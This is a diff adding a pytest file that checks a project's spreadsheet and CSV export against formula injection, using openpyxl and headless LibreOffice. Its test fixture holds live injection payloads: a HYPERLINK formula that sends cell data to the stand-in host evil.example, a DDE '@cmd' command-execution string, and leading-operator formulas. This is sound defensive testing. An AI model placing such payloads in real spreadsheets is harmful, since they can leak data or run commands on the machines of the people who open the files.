@@ -1,0 +1,90 @@
+"""Export: what we write, opened with openpyxl and with LibreOffice (headless), with hostile text."""
+
+from __future__ import annotations
+
+import csv
+import shutil
+import subprocess
+from pathlib import Path
+
+import openpyxl
+import pytest
+
+from crosscount.core.export import export
+from crosscount.core.pipeline import analyze
+
+HOSTILE = ('=HYPERLINK("http://evil.example/?x="&A1,"click")\n\n'
+           "+SUM(1,2) officials said 1,200 soldiers were killed.\n\n"
+           "@cmd|' /C calc'!A0 reported 3,400 soldiers wounded.\n\n"
+           "-2+3 Russia lost at least 500 soldiers killed in May.\n")
+
+
+@pytest.fixture
+def hostile_article(tmp_path: Path) -> Path:
+    p = tmp_path / "=evil.txt"
+    p.write_text(HOSTILE, encoding="utf-8")
+    return p
+
+
+def test_workbook_has_sheets_numbers_dates_and_no_formulas(sample_path, hostile_article, tmp_path):
+    out = tmp_path / "out.xlsx"
+    export(analyze([str(sample_path), str(hostile_article)]), out)
+    wb = openpyxl.load_workbook(out)
+    assert {"Comparison", "Charts", "Claims", "Articles", "Rates"} <= set(wb.sheetnames)
+    for ws in wb.worksheets:
+        for row in ws.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", f"formula in {ws.title}!{cell.coordinate}: {cell.value!r}"
+    claims = wb["Claims"]
+    header = [c.value for c in claims[1]]
+    low = header.index("low") + 1
+    text_col = header.index("text") + 1
+    rows = {claims.cell(r, text_col).value: claims.cell(r, low).value for r in range(2, claims.max_row + 1)}
+    assert rows["450,000 rubles"] == 450000 and isinstance(rows["450,000 rubles"], int | float)
+    titles = [c.value for c in wb["Articles"]["B"]]
+    assert any(isinstance(t, str) and t.startswith("=HYPERLINK") for t in titles)
+    assert wb["Comparison"].freeze_panes == "A2"
+    assert wb["Charts"]._charts, "a native chart per group"
+    rates = wb["Rates"]
+    assert rates["A2"].value == "RUB" and rates["E2"].value == "NBP"
+
+
+def test_csv_export_neutralises_formulas(hostile_article, tmp_path):
+    out = tmp_path / "out.csv"
+    export(analyze([str(hostile_article)]), out)
+    rows = list(csv.DictReader(out.read_text(encoding="utf-8-sig").splitlines()))
+    sentences = [r["sentence"] for r in rows]
+    assert sentences and all(not s.startswith(("=", "+", "-", "@")) for s in sentences)
+    assert any(s.startswith("'+SUM") for s in sentences)
+
+
+def test_export_is_atomic_and_keeps_the_old_file_on_error(sample_path, tmp_path):
+    out = tmp_path / "out.xlsx"
+    out.write_bytes(b"previous good file")
+    with pytest.raises(ValueError):
+        export(analyze([str(sample_path)]), tmp_path / "out.docx")
+    assert out.read_bytes() == b"previous good file"
+    assert not [p for p in tmp_path.iterdir() if p.name.endswith(".part")]
+
+
+@pytest.mark.libreoffice
+def test_libreoffice_opens_the_workbook_and_evaluates_nothing(sample_path, hostile_article, tmp_path):
+    soffice = shutil.which("soffice") or shutil.which("libreoffice")
+    assert soffice, "make test installs libreoffice-calc-nogui"
+    out = tmp_path / "out.xlsx"
+    export(analyze([str(sample_path), str(hostile_article)]), out)
+    profile = tmp_path / "lo-profile"
+    res = subprocess.run([soffice, f"-env:UserInstallation=file://{profile}", "--headless", "--convert-to",
+                          "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1",
+                          "--outdir", str(tmp_path / "lo"), str(out)],
+                         capture_output=True, text=True, timeout=180)
+    assert res.returncode == 0, res.stderr
+    converted = sorted((tmp_path / "lo").glob("*.csv"))
+    assert converted, res.stdout + res.stderr
+    claims_csv = next((p for p in converted if "Claims" in p.name), None)
+    assert claims_csv is not None, [p.name for p in converted]
+    text = claims_csv.read_text(encoding="utf-8")
+    assert "450,000 rubles" in text and "450000" in text
+    assert "+SUM(1,2) officials" in text  # still the words, not 3
+    articles_csv = next(p for p in converted if "Articles" in p.name)
+    assert '=HYPERLINK("http://evil.example/' in articles_csv.read_text(encoding="utf-8")
